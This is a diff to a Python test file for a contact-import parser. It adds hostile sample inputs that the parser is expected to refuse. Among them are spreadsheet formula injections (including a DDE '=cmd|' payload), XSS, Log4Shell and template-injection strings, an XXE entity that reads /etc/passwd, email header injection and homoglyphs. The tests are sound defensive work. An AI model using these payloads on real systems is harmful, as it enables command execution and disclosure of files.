@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import base64
 import csv
 import gzip
 import io
@@ -62,7 +63,34 @@ def reasons(text: bytes | str) -> dict[int, str]:
         ("https://example.org,a@exemple.fr", "script"),
         ("javascript:x,a@exemple.fr", "script"),
         ("{{7*7}},a@exemple.fr", "script"),
+        ("\t=1+1,a@exemple.fr", "formula"),
+        ('"\r=1+1",a@exemple.fr', "formula"),
+        ("\u00a0=1+1,a@exemple.fr", "formula"),
+        ("' =1+1,a@exemple.fr", "formula"),
+        ("\uff1d1+1,a@exemple.fr", "formula"),  # full-width signs, which spreadsheets read as well
+        ("\uff0b1+1,a@exemple.fr", "formula"),
+        ("\uff20SUM(A1),a@exemple.fr", "formula"),
+        ("\ufe661+1,a@exemple.fr", "formula"),
+        ("Zoé;=cmd|x!A0,a@exemple.fr", "formula"),  # what a spreadsheet in French makes a cell of its own
+        ("Zoé|@SUM(A1),a@exemple.fr", "formula"),
+        ("<svg onload=alert(1)>,a@exemple.fr", "script"),
+        ("${jndi:ldap://x/a},a@exemple.fr", "script"),
+        ("{% debug %},a@exemple.fr", "script"),
         ("Zo\x1b[31mé,a@exemple.fr", "control"),
+        ("\u200b=1+1,a@exemple.fr", "control"),
+        ("\u2067Zoé,a@exemple.fr", "control"),
+        ("Zoé\u061c,a@exemple.fr", "control"),
+        ("Zoé\U000e0041,a@exemple.fr", "control"),
+        ("Zo\ue000é,a@exemple.fr", "control"),
+        ("Zo\bé,a@exemple.fr", "control"),
+        ("Zoé,zοe@exemple.fr", "bad_email"),  # a Greek o
+        ("Zoé,zoe@exemple\u3002fr", "bad_email"),
+        ("Zoé,zoe@[127.0.0.1]", "bad_email"),
+        ("Zoé,\"a@exemple.fr,b@exemple.fr\"", "bad_email"),
+        ("Zoé,a@exemple.fr;b@exemple.fr", "bad_email"),
+        ("Zoé,mailto:a@exemple.fr?bcc=b@exemple.fr", "bad_email"),
+        ("Zoé,a%0d%0abcc:b@exemple.fr", "bad_email"),
+        (f"Zoé,{'a' * 65}@exemple.fr", "bad_email"),
         ("Zo\u202eé,a@exemple.fr", "control"),
         ("Zoé\0,a@exemple.fr", "nul"),
         (f"{'Z' * 201},a@exemple.fr", "too_long"),
@@ -107,6 +135,23 @@ def test_a_hostile_row_is_refused_and_its_neighbours_enter(row: str, reason: str
         (gzip.compress(b"email\n" * 1000, mtime=0), "gzip"),
         (b"%PDF-1.7", "PDF"),
         (b"SQLite format 3\0", "SQLite"),
+        (b"\x89PNG\r\n\x1a\n", "PNG"),
+        (b"<!DOCTYPE html><table><tr><td>email</td></tr></table>", "HTML"),
+        (b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><x>&a;</x>", "XML"),
+        (b"BEGIN:VCALENDAR\nEND:VCALENDAR\n", "iCalendar"),
+        ("email,nom\n".encode("utf-32-le"), "unreadable|illisible"),
+        ("email,nom\n".encode("cp500"), "unreadable|illisible"),
+        (b"\0" * 500 + b"email,nom\n", "unreadable|illisible"),
+        (b"email,nom\n" + b'"' * 3_000_001, "line 2|ligne 2"),
+        (b"email," + b"c," * 1_000_000 + b"\n", "line 1|ligne 1"),
+        (b"email,nom\na@exemple.fr" + b",x" * 1_000_000 + b"\n", "line 2|ligne 2"),
+        (b"," * 5_000_000, "line 1|ligne 1"),
+        (b"\r" * 3_000_000, "empty|vide"),
+        (b'[{"email": "' + SECRET.encode() + b'"}]', "first line|première ligne"),
+        ("em\u200bail,nom\na@exemple.fr,x\n".encode(), "em ail"),
+        ("\u0435mail,nom\na@exemple.fr,x\n".encode(), "e-mail"),  # a Cyrillic e
+        (b"BEGIN:VCARD\nFN:x\nBEGIN:VCARD\nFN:y\nEND:VCARD\nEMAIL:a@exemple.fr\nEND:VCARD\n", "outside|hors"),
+        (b"BEGIN:VCARD\n" + b"EMAIL:a@exemple.fr\n" * 5000 + b"END:VCARD\n", "line 1|ligne 1"),
         (b"BEGIN:VCARD\nFN:x\nEND:VCARD\nstray\n", "outside|hors"),
         (b"BEGIN:VCARD\n" + b"NOTE:x\n" * 30_000 + b"END:VCARD\n", "without end|sans fin"),
     ],
@@ -115,6 +160,53 @@ def test_a_file_that_cannot_be_trusted_is_refused_whole(text: bytes, says: str) 
     with pytest.raises(BadFile, match=says) as caught:
         read(text)
     assert SECRET not in str(caught.value)
+
+
+def test_a_zip_within_a_zip_named_csv_is_never_opened() -> None:
+    inner, outer = io.BytesIO(), io.BytesIO()
+    for target, name, content in ((inner, "people.csv", b"email,nom\n"), (outer, "people.csv", None)):
+        with zipfile.ZipFile(target, "w") as archive:
+            archive.writestr(name, inner.getvalue() if content is None else content)
+    with pytest.raises(BadFile, match="ZIP"):
+        read(outer.getvalue())
+    assert set(reasons(b"email,nom\n" + outer.getvalue()).values()) <= {"nul", "encoding", "ragged", "bad_email"}
+
+
+def test_zeros_amid_a_file_spoil_their_own_line_only() -> None:
+    assert reasons(b"email,nom\na@exemple.fr,\0\0\0\nb@exemple.fr,Dan\n" + b"\0" * 10_000) == {2: "nul", 4: "nul"}
+
+
+def test_the_line_that_excel_writes_before_the_header_is_passed_over() -> None:
+    found = read("\ufeffsep=;\r\nemail;nom\r\na@exemple.fr;Zoé\r\nb@exemple.fr;=1\r\n".encode())
+    assert [(line, row.contact.name if row.contact else "") for line, row in found] == [(3, "Zoé"), (4, "")]
+
+
+PHOTO = base64.b64encode(b"\xff\xd8\xff" * 40_000).decode()
+FOLDED = "\r\n ".join(PHOTO[start : start + 75] for start in range(0, 60_000, 75))
+CARDS = [
+    (b"FN:Zo\xc3\r\n \xa9\r\n", "Zoé"),  # a fold within a letter
+    ("FN:Zo\r\n é\r\n".encode(), "Zoé"),
+    (b"FN:Zo\xe9\r\n", "Zoé"),  # Windows-1252
+    (f"FN:Zoé\r\nPHOTO;ENCODING=b;TYPE=JPEG:{PHOTO}\r\n".encode(), "Zoé"),
+    (f"FN:Zoé\r\nPHOTO;ENCODING=b:{FOLDED}\r\n".encode(), "Zoé"),
+    (b"FN;ENCODING=QUOTED-PRINTABLE;CHARSET=UTF-8:Zo=C3=\r\n=A9\r\n", "Zoé"),
+    (b"FN;ENCODING=QUOTED-PRINTABLE:Zoe=0D=0ABcc: b\r\n", "Zoe Bcc: b"),
+    (b"FN:Zoe\r\nAGENT:BEGIN:VCARD\\nEMAIL:b@exemple.fr\\nEND:VCARD\r\n", "Zoe"),
+    (b"FN:Zoe\r\nNOTE:vote RN\r\nX-RELIGION:catholique\r\n", "Zoe"),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(("lines", "name"), CARDS, ids=range(len(CARDS)))
+def test_a_card_is_read_however_it_is_folded(lines: bytes, name: str) -> None:
+    found = read(b"BEGIN:VCARD\r\nVERSION:3.0\r\n" + lines + b"EMAIL:a@exem\r\n\tple.fr\r\nEND:VCARD\r\n")
+    assert [(row.contact.name, row.contact.email) for _, row in found if row.contact] == [(name, "a@exemple.fr")]
+
+
+@pytest.mark.parametrize("line", ["FN:Zo\u202eé", "FN:Zo\\,é\\;=1+1", "FN:\udce9\udcc3é"])
+def test_a_hostile_card_is_refused_and_its_neighbour_enters(line: str) -> None:
+    bad = f"BEGIN:VCARD\n{line}\nEMAIL:a@exemple.fr\nEND:VCARD\n".encode("utf-8", "surrogateescape")
+    found = read(bad + "BEGIN:VCARD\nFN:Zoé\nEMAIL:b@exemple.fr\nEND:VCARD\n".encode())
+    assert [bool(row.refusal) for _, row in found] == [True, False]
 
 
 def test_a_zip_bomb_is_never_opened() -> None:
